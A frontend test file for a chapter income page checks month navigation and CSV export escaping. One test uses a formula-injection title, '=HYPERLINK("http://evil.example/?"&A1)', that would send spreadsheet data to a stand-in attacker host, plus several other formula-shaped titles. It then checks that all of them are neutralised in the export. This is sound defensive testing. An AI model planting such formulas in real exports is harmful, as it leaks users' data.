import 'fake-indexeddb/auto';
import { fireEvent, screen, waitFor } from '@testing-library/react';
import { expect, test } from 'vitest';
import type { SessionView } from '#session/session-control.ts';
import { parseCsv } from '#shared/domain/csv/parse-csv.ts';
import type { BookId, UserId } from '#shared/domain/ids.ts';
import { links } from '#shared/protocol/links.ts';
import { showScreen } from '#test/support/screen.tsx';
import { RouteLink } from '#ui/route-link.tsx';
import ChapterIncomePage from './chapter-income-page.tsx';

const ID = '0190a000-0000-7000-8000-000000000001' as BookId;
// An author that no other test of this file uses, as the device stores the author's answers.
const raka = { uid: 'raka' as UserId, name: 'Raka', role: 'author', alive: true } as SessionView;

/** Shows the page of a month; the server has the same chapters for each, by default none. */
function show(items: readonly object[] = []) {
  const asked: (string | undefined)[] = [];
  const navigated: unknown[] = [];
  const call = async (_: string, { request }: { request: { month?: string } }) => {
    asked.push(request.month);
    const month = request.month ?? '2026-03';
    const totals = { estimate: 0, verified: 0, paid: 0, amount: 0 };
    const months = ['2026-03', '2026-02', '2026-01'];
    return { ok: true, value: { bookName: 'Hujan', month, months, items, totals, nextCursor: null } };
  };
  showScreen(
    <>
      <RouteLink to={links.chapterIncome(ID, '2026-01')}>January</RouteLink>
      <ChapterIncomePage params={{ id: ID }} />
    </>,
    {
      path: links.chapterIncome(ID, '2026-02'),
      session: { current: () => raka },
      services: {
        api: { call, file: call } as never,
        navigate: (to: string, options?: unknown) => navigated.push([to, options]),
      },
    },
  );
  return { asked, navigated };
}
const month = async () => ((await screen.findByRole('combobox')) as HTMLSelectElement).value;

test('the page shows the month in the address, even after the address changes', async () => {
  const { asked } = show();
  expect(await month()).toBe('2026-02');
  fireEvent.click(screen.getByRole('link', { name: 'January' }));
  await waitFor(async () => expect(await month()).toBe('2026-01'));
  expect(asked).toEqual(['2026-02', '2026-01']);
});

test('a chosen month replaces the month in the address', async () => {
  const { navigated } = show();
  await month();
  fireEvent.change(await screen.findByRole('combobox'), { target: { value: '2026-03' } });
  expect(navigated).toEqual([[links.chapterIncome(ID, '2026-03'), { replace: true }]]);
});

test('a chapter’s title that looks like a formula stays text in the saved file', async () => {
  const saved: Blob[] = [];
  URL.createObjectURL = (file) => `blob:${saved.push(file as Blob)}`;
  const sums = { estimate: -5, verified: 0, paid: 0, amount: -5 };
  const titles = ['=HYPERLINK("http://evil.example/?"&A1)', '+1', '-2+3', '@SUM(1)', '\t=1', '＝1', 'a",=1'];
  show(titles.map((title, index) => ({ chapterId: `c${index}`, title, ...sums })));
  fireEvent.click(await screen.findByRole('button', { name: 'money.income.csvOf' }));
  await waitFor(() => expect(saved).toHaveLength(1));
  const [, ...rows] = parseCsv((await saved[0]?.text()) ?? '').map(({ cells }) => cells);
  const [formulas, [plain]] = [titles.slice(0, -1), titles.slice(-1)];
  expect(rows.map((cells) => cells[1])).toEqual([...formulas.map((title) => `'${title}`), plain]);
  // A negative amount is a number too, not a formula.
  expect(rows.map((cells) => cells.at(-1))).toEqual(titles.map(() => '-0.05'));
});
